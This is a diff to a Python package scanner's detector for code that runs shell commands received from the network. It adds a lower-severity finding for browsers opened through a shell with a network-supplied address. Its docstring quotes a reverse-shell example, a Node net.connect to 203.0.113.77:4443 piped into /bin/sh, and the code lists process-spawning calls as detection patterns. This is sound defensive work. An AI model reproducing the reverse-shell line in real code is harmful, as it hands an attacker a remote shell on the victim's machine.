@@ -9,6 +9,9 @@ the user who started the server.
 
 **Example.** `const link = net.connect(4443, "203.0.113.77"); link.pipe(spawn("/bin/sh").stdin)`
 
+**Reported with less weight.** A browser that is opened through a shell on an address from the network, in
+quotes: a shell still replaces `$(...)` inside of them. Not reported: the same without a shell.
+
 **Remedy.** Do not install the package. A machine on which it ran has to be treated as taken over.
 """
 
@@ -43,6 +46,8 @@ _STARTING = encoded(
     ("spawn", "exec", "execSync", "execFile", "Popen", "run", "system", "popen", "call", "check_output")
 )
 _LARGE = 64 * 1024
+_VIEWS = "lets a shell read an address from the network, in quotes, to show it in the browser"
+_NO_SHELL = "Start the browser with a list of arguments and no shell (`execFile`, `subprocess.run([...])`)."
 
 
 def look(codebase: Codebase) -> Iterator[Evidence]:
@@ -58,19 +63,43 @@ def look(codebase: Codebase) -> Iterator[Evidence]:
     for _, call in catalogue(sources.EXECUTION, "start").calls(program, paths):
         why = judge.why(call)
         if why:
-            severity = Severity.LOW if is_aside(call.index.path) else None
-            yield evidence_at(call, why=why, severity=severity)
+            views = why == _VIEWS
+            severity = Severity.MEDIUM if views else None
+            yield evidence_at(
+                call,
+                why=why,
+                severity=Severity.LOW if is_aside(call.index.path) else severity,
+                confidence=Confidence.LOW if views else None,
+                remedy=_NO_SHELL if views else None,
+            )
 
 
 class _Judge:
     def __init__(self, program: Program) -> None:
         self._program = program
         self._received = program.tracer(lambda state: self._named(state, "receive"))
+        self._bare = program.tracer(self._unquoted)
         self._sockets = program.tracer(self._socket)
 
     def _named(self, state: State, section: str) -> str | None:
         found = catalogue(sources.NETWORK, section).is_call(self._program, state)
         return section if found is not None else None
+
+    def _unquoted(self, state: State) -> str | None:
+        call = self._program.call(state)
+        if call is not None and call.name in ("stringify", "dumps"):
+            return ""
+        return self._named(state, "receive")
+
+    def _views(self, part: State) -> bool:
+        """Whether *part* is a command line that shows something to the user, named by quoted text.
+
+        The quotes keep the text in one argument, though not from what a shell replaces inside of them.
+        """
+        viewers = re.compile(douane_signatures.table(sources.EXECUTION)["viewers"]["line"])
+        lines = self._program.shapes(part)
+        only = all((shown := viewers.match(line)) and line[shown.end() :] == HOLE for line in lines)
+        return only and not self._bare.trace(part)
 
     def _socket(self, state: State) -> str | None:
         found = catalogue(sources.EXECUTION, "socket").is_call(self._program, state)
@@ -89,6 +118,8 @@ class _Judge:
             for part in elements(self._program, first)[:1] or [first]:
                 found = self._received.trace(part)
                 if found:
+                    if self._views(part):
+                        return _VIEWS
                     at = found[0].at
                     return f"runs commands that come from the network, received at {at.index.path}:{at.line}"
         if any(_SHELL.search(line) for line in lines) and self._is_connected(call):
